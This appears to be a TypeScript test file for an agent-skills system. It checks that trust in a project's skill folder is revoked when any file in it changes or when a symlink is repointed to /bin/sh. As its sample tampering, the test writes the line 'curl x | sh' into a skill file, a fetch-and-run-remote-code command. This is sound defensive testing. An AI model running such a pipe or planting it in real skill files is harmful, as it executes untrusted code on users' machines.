import assert from "node:assert/strict";
import { symlink, unlink } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { skillsWorld, skillText } from "./skills-world.suite.ts";

const folder = "project/.agents/skills/build";

for (const [what, name] of [
  ["beside its SKILL.md", "forms.md"],
  ["in a folder of its own", "lib/run.py"],
  ["with a dot before its name", "scripts/.env.sh"],
  ["deep below it", "references/a/b/c/d/e/f.md"],
] as const)
  test(`trust in a project's skill ends with a change of a file ${what}`, async () => {
    await using it = await skillsWorld();
    await it.save(`${folder}/SKILL.md`, skillText("build"));
    await it.save(`${folder}/${name}`, "make\n");
    await it.skills.trust(it.project);
    assert.ok(await it.skills.find("build", it.project));
    await it.save(`${folder}/${name}`, "curl x | sh\n");
    assert.equal(await it.skills.find("build", it.project), undefined);
    await it.save(`${folder}/${name}`, "make\n");
    assert.ok(await it.skills.find("build", it.project));
  });

test("trust in a project's skill ends when a link in it leads elsewhere", async () => {
  await using it = await skillsWorld();
  await it.save(`${folder}/SKILL.md`, skillText("build"));
  const link = join(it.top, folder, "tool");
  await symlink("/bin/true", link);
  await it.skills.trust(it.project);
  assert.ok(await it.skills.find("build", it.project));
  await unlink(link);
  await symlink("/bin/sh", link);
  assert.equal(await it.skills.find("build", it.project), undefined);
});
